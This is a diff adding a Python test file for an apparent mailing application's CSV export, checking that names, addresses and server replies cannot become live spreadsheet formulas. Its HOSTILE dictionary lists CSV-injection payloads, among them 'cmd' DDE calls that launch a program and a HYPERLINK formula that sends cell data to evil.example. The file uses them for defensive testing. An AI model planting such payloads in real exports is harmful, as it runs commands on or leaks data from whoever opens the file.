@@ -1,0 +1,175 @@
+"""What somebody writes into a name, an address or a mail server's reply, for a spreadsheet to compute.
+
+A spreadsheet splits the file where its country splits (a German one at semicolons), may take no
+notice of quotes, and computes whatever then begins like a formula.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import unicodedata
+from collections.abc import Iterator
+
+import pytest
+from flask import Flask
+from flask.testing import FlaskClient
+from hypothesis import given
+from hypothesis import strategies as st
+from sqlalchemy import update
+
+from mailroom.content.formulas import harmless, restored
+from mailroom.content.recipients import parse_csv
+from mailroom.database import Database
+from mailroom.ledger import suppressions
+from mailroom.ledger.schema import contents
+from mailroom.web.copied import copied
+from mailroom.web.csv_export import HEADER, line
+from mailroom.web.kept_files import KeptFiles
+from tests.web.watching import a_mailing
+
+SEPARATORS = ",;\t|"
+BEGINNINGS = "=+-@"
+
+HOSTILE = {
+    "at once": "=1+1",
+    "behind a separator": "Bob;=1+1;",
+    "behind a comma": "Bob,=1+1,",
+    "behind a tab": "Bob\t=1+1\t",
+    "behind a bar": "Bob|=1+1|",
+    "in a link": 'Bob;=HYPERLINK("http://evil.example/?"&A1;"more");',
+    "a program": "Bob;=cmd|' /C calc'!A0;",
+    "a program after a sign": "Bob;-2+3+cmd|' /C calc'!A0;",
+    "an old function": "Bob;@SUM(1+1)*cmd|' /C calc'!A0;",
+    "behind a line feed": "Bob\n=1+1",
+    "behind a carriage return": "Bob\r=1+1",
+    "behind a line end": "Bob\r\n=1+1\r\n",
+    "behind blanks": "Bob;   =1+1;",
+    "behind a blank that does not break": "Bob;\u00a0=1+1;",
+    "behind what nobody sees": "Bob;\u200b\ufeff\u2060=1+1;",
+    "behind a turn of direction": "Bob;\u202e=1+1;",
+    "behind a NUL": "Bob;\0=1+1;",
+    "in quotes": 'Bob;"=1+1";',
+    "behind a quote": 'Bob";=1+1;"',
+    "behind many quotes": 'Bob"""";"""=1+1""";',
+    "in single quotes": "Bob;'=1+1';",
+    "full-width": "Bob;\uff1d1+1;",
+    "a full-width plus": "\uff0b1+1",
+    "a full-width minus": "Bob;\uff0d1+1;",
+    "a full-width at": "Bob;\uff20SUM(1);",
+    "a small equals sign": "Bob;\ufe661+1;",
+    "a minus of mathematics": "Bob;\u22121+1;",
+    "behind empty cells": "Bob;;;=1+1;;",
+    "behind cells of all kinds": "Bob;,|\t =1+1",
+    "behind a full-width blank": "\u3000=1+1",
+    "several": "=1;+1;-1;@a,=1|+1\t-1\n@a",
+    "as often as there is room": ";=" * 100,
+    "a phone number": "+49 170 1234567",
+    "a negative number": "-5",
+}
+
+
+def cells(text: str, separator: str) -> Iterator[str]:
+    """All that a spreadsheet may take for a cell: with and without regard to quotes."""
+    yield from re.split(f"[{re.escape(separator)}\r\n]", text)
+    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
+        yield from row
+    yield from re.findall(rf'"(?:[^"]|"")*"|[^"{re.escape(separator)}\r\n]+', text)
+
+
+def is_live(cell: str) -> bool:
+    seen = "".join(
+        character
+        for character in unicodedata.normalize("NFKC", cell.replace("\u2212", "-"))
+        if unicodedata.category(character) not in ("Cc", "Cf", "Zs", "Zl", "Zp")
+    )
+    return seen.lstrip('"').startswith(tuple(BEGINNINGS))
+
+
+def live(text: str) -> list[tuple[str, str]]:
+    return [(at, cell) for at in SEPARATORS for cell in cells(text, at) if is_live(cell)]
+
+
+def test_this_file_sees_a_live_cell() -> None:
+    assert live("ann@example.org,Bob;=1+1;,sent\r\n")
+    assert live('ann@example.org,"Bob\n=1+1",sent\r\n')
+    assert not live("ann@example.org,Bob;'=1+1;,sent\r\n")
+
+
+@pytest.mark.parametrize("words", HOSTILE.values(), ids=HOSTILE)
+@pytest.mark.parametrize("place", range(3))
+def test_no_cell_of_a_line_is_live(words: str, place: int) -> None:
+    row = ["ann@example.org", "Ann", "250 OK"]
+    row[place] = words
+    assert live(line(row)) == []
+
+
+@pytest.mark.parametrize("words", HOSTILE.values(), ids=HOSTILE)
+def test_an_honest_reader_reads_the_same_rows(words: str) -> None:
+    row = ["ann@example.org", words, "250 OK"]
+    [read] = csv.reader(io.StringIO(line(row), newline=""), strict=True)
+    assert restored(read) == row
+    assert [cell.replace("'", "") for cell in read] == [cell.replace("'", "") for cell in row]
+
+
+TEXTS = st.text(st.sampled_from("=+-@,;\t|\r\n \"'ab1\uff1d\u200b\u3000\u202e"), max_size=12)
+
+
+@given(TEXTS)
+def test_no_text_is_live_and_each_is_read_again(text: str) -> None:
+    assert live(line([text, text])) == []
+    assert restored([harmless(text)]) == [text]
+
+
+@given(st.text(max_size=30))
+def test_what_is_harmless_stays_as_it_is(text: str) -> None:
+    if not live(text) and not any(character in BEGINNINGS + SEPARATORS + "\r\n" for character in text):
+        assert harmless(text).replace("'", "") == text.replace("'", "")
+
+
+@pytest.mark.parametrize("filler", [";", "\t", ";'", "\n", " ", "\u200b", ",;|\t", "'"])
+def test_a_long_run_of_separators_is_looked_at_once(filler: str) -> None:
+    """Looked at anew from each, a million of them would take days."""
+    assert harmless(filler * 1_000_000 + "x").replace("'", "").endswith("x")
+
+
+def test_our_own_export_is_read_with_the_same_addresses_and_names() -> None:
+    people = {
+        "=cmd@example.org": "=1+1",
+        "+49@example.org": "+49 170 1234567",
+        "-5@example.org": "-5",
+        "'quoted'@example.org": "O'Brien",
+        "bob@example.org": "Bob;=1+1;",
+        "cleo@example.org": "'=1+1",
+        "dora@example.org": 'Dora "D", Müller',
+    }
+    exported = line(HEADER) + "".join(
+        line([a, n, "sent", "1", "250", "+OK", "", ""]) for a, n in people.items()
+    )
+    parsed = parse_csv(io.BytesIO(exported.encode()))
+    assert parsed.problems == []
+    assert {one.address: one.name for one in parsed.recipients} == people
+    assert {(one.variables or {})["reply"] for one in parsed.recipients} == {"+OK"}
+
+
+def test_the_suppressions_of_a_page_are_harmless(app: Flask, client: FlaskClient) -> None:
+    with app.extensions["mailroom"].database.begin() as connection:
+        suppressions.add_all(connection, ["-5@example.org"], "manual", "seen;=1+1;\uff1d1")
+    exported = client.get("/suppressions.csv").text
+    assert "-5@example.org" in exported and live(exported) == []
+
+
+def test_a_copied_mailing_has_the_values_that_it_had(app: Flask, client: FlaskClient) -> None:
+    """They travel as a file of ours, which is read like anybody's."""
+    people = ["=1+1", "'=1+1", "Bob;=1+1;", "O'Brien"]
+    database: Database = app.extensions["mailroom"].database
+    rows = [{"address": f"b{n}@example.org", "variables": {"note": note}} for n, note in enumerate(people)]
+    mailing_id = a_mailing(database, *rows)
+    with database.begin() as connection:
+        connection.execute(update(contents).values(columns=["note"]))
+    with database.read() as connection, app.test_request_context():
+        form = copied(connection, mailing_id, KeptFiles(app.extensions["mailroom"].settings.home, 1))
+    assert form is not None and form.recipients_file is not None
+    read = parse_csv(form.recipients_file.data).recipients
+    assert [(one.variables or {})["note"] for one in read] == people
